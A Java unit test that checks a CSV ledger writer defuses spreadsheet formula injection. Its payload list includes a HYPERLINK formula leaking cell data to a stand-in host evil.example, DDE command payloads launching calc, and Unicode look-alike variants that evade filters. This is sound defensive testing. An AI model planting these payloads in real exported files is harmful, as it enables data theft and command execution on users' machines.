package org.bihuan.report.mapping;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Formula injection through the CSV ledger (issue 10, item 7): the payloads a hostile reporter put
 * in a problem's text, written by LedgerCsv and read back as a spreadsheet reads them.
 */
class LedgerCsvInjectionTest {

  static final String[] FORMULAS = {
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击查看\")",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    // full-width and small forms, which NFKC folds to the ASCII signs, alone and after blanks
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦HYPERLINK(\"http://evil.example\")",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    " ﹦1+1",
    "\u3000＋1",
    "\u00a0\u200b﹣1",
  };

  @Test
  void everyCellThatCouldStartAFormulaReadsBackAsQuotedText() throws Exception {
    List<String[]> rows = writeAndReadBack(FORMULAS);
    String[] cells = rows.get(1);
    assertEquals(FORMULAS.length, cells.length);
    for (int i = 0; i < FORMULAS.length; i++) {
      assertEquals("'" + FORMULAS[i], cells[i], "cell " + i);
    }
  }

  @Test
  void ordinaryTextIsUnchanged() throws Exception {
    String[] plain = {"整改中", "问题描述1，含逗号,和\"引号\"。", "2024-06-30", "a=b", "第一行\n第二行", "1"};
    List<String[]> rows = writeAndReadBack(plain);
    for (int i = 0; i < plain.length; i++) {
      assertEquals(plain[i], rows.get(1)[i]);
    }
  }

  private static List<String[]> writeAndReadBack(String[] cells) throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (LedgerCsv csv = new LedgerCsv(out)) {
      csv.row(cells);
    }
    String text = out.toString(StandardCharsets.UTF_8);
    return parse(text.substring(1)); // after the byte-order mark
  }

  /** RFC 4180 as Excel reads it: quoted fields may hold commas, quotes, CR and LF. */
  static List<String[]> parse(String text) {
    List<String[]> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          cell.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',') {
        row.add(cell.toString());
        cell.setLength(0);
      } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
        row.add(cell.toString());
        cell.setLength(0);
        rows.add(row.toArray(String[]::new));
        row = new ArrayList<>();
        i++;
      } else {
        cell.append(c);
      }
    }
    return rows;
  }
}
